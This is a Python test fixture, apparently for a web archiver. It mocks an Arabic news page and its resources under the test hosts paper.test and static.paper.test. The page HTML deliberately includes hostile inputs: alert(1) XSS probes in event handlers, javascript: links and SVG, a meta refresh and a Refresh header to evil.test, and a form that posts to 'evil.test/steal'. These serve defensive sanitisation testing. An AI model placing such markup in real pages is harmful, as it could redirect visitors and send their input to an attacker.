"""A newspaper's page as the web has them: lazy pictures, sets of sizes, frames, films, fonts, a script's placeholders, and parts that are missing."""

from __future__ import annotations

import gzip

import brotli

from tests.replay.archived import Said, png

PAGE = "https://paper.test/خبر/1"
URL = "https://paper.test/%D8%AE%D8%A8%D8%B1/1"
HTML = """<!DOCTYPE html>
<html lang="ar" dir="rtl" class="no-js"><head>
<meta charset="windows-1256">
<meta http-equiv="refresh" content="0;url=https://evil.test/refreshed">
<meta http-equiv="Content-Security-Policy" content="img-src 'none'">
<base href="https://static.paper.test/2026/">
<title>الرباط تستقبل وفداً</title>
<link rel="preconnect" href="https://live.test/">
<link rel="stylesheet" href="style.css" integrity="sha256-x" crossorigin>
<link rel="preload" as="style" href="late.css" onload="this.onload=null;this.rel='stylesheet'">
<link rel="stylesheet" href="missing.css">
<link rel="icon" href="/icon.png">
<style>.lead{background:url('lead.png')} .gone{background:url(https://live.test/gone.png)} @import "https://live.test/x.css";</style>
<script src="https://live.test/app.js"></script>
</head><body onload="alert(1)" background="lead.png">
<h1>الرباط تستقبل وفداً</h1>
<p class="lead">نص <b>عربي</b> مع <a href="/خبر/2?x=1&amp;y=2">رابط</a> و<a href="javascript:alert(1)">زر</a> و<a href="#end">قفزة</a>
   و<a href="https://paper.test/خبر/1#end">قفزة أخرى</a>.</p>
<img id="plain" src="photo.png" alt="صورة" width="160" height="90" onerror="alert(1)">
<img id="lazy" class="lazyload" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" data-src="lazy.png" width="160" height="90">
<img id="set" srcset="small.png 240w, big.png 960w" sizes="50vw" src="small.png" width="160" height="90">
<picture><source srcset="photo.webp" type="image/webp"><img id="pictured" src="nowhere.png" width="160" height="90"></picture>
<img id="lost" src="lost.png" alt="صورة ضائعة" width="320" height="180">
<noscript><img id="quiet" src="photo.png" width="80" height="45"></noscript>
<svg width="60" height="40"><script>alert(1)</script><image href="photo.png" width="60" height="40"/><a xlink:href="javascript:alert(1)"><set attributeName="href" to="javascript:alert(1)"/><text y="20">SVG</text></a></svg>
<iframe id="map" src="https://maps.test/embed" width="320" height="120" onload="alert(1)"></iframe>
<iframe id="gone" src="https://video.test/embed/1" width="320" height="120"></iframe>
<iframe id="doc" srcdoc="&lt;p&gt;inner &lt;img src=photo.png width=20 height=20&gt;&lt;script&gt;alert(1)&lt;/script&gt;" width="200" height="60"></iframe>
<video id="film" poster="poster.png" width="160" height="90" autoplay><source src="film.mp4" type="video/mp4"></video>
<video id="nofilm" width="160" height="90" src="https://cdn.test/none.mp4"></video>
<object id="flash" data="movie.swf" width="160" height="90"></object>
<form action="https://evil.test/steal" method="post"><input name="q" autofocus><button formaction="https://evil.test/b">ابحث</button></form>
<template><p>من القالب</p></template>
<div><template shadowrootmode="open"><p id="shadow">ظل</p><img src="photo.png" width="10" height="10"></template></div>
<p id="end">النهاية</p>
</body></html>"""
S = "https://static.paper.test/2026/"
TABLE = {
    URL: Said(gzip.compress(HTML.encode("cp1256")), "text/html; charset=windows-1256", headers=(
        ("Content-Encoding", "gzip"), ("Set-Cookie", "a=b; Domain=localhost"), ("Refresh", "0; url=https://evil.test/"),
        ("Strict-Transport-Security", "max-age=99999999; includeSubDomains"), ("Content-Security-Policy", "default-src *"),
        ("Link", "<https://live.test/p.css>; rel=preload; as=style"), ("Clear-Site-Data", '"*"'), ("Service-Worker-Allowed", "/"),
    )),
    S + "style.css": Said(brotli.compress(
        b'@charset "utf-8"; @import url("more.css"); body{font-family:Naskh,serif;max-width:900px;margin:auto} h1{color:rgb(1,2,3)}'
        b".lead{border:3px solid rgb(200,30,30)} @font-face{font-family:Naskh;src:url(naskh.woff2)} .x{background:url(//live.test/y.png)}"
    ), "text/css", headers=(("Content-Encoding", "br"),)),
    S + "more.css": Said(".lead{padding:12px;background-image:image-set('lead.png' 1x, url(lead2.png) 2x)}", "text/css"),
    S + "late.css": Said("h1{letter-spacing:2px}", "text/css"),
    S + "missing.css": Said("not here", "text/plain", "404 Not Found"),
    "https://static.paper.test/icon.png": Said(png(16, 16), "image/png"),
    S + "lead.png": Said(png(8, 8, (255, 250, 220)), "image/png"),
    S + "photo.png": Said(to="https://cdn.test/photo.png", status="301 Moved Permanently"),
    "https://cdn.test/photo.png": Said(png(160, 90, (30, 90, 160)), "image/png"),
    S + "lazy.png": Said(png(160, 90, (30, 160, 90)), "image/png"),
    S + "big.png": Said(png(960, 540, (160, 90, 30)), "image/png"),
    S + "photo.webp": Said(png(160, 90, (90, 30, 160)), "image/png"),
    S + "poster.png": Said(png(160, 90, (90, 90, 90)), "image/png"),
    S + "film.mp4": Said(bytes(range(256)) * 4000, "video/mp4"),
    "https://maps.test/embed": Said('<body style="background:#dfd"><p>خريطة</p><iframe src="https://deep.test/"></iframe><img src="/pin.png">'),
    "https://maps.test/pin.png": Said(png(20, 20, (255, 0, 0)), "image/png"),
}  # fmt: skip
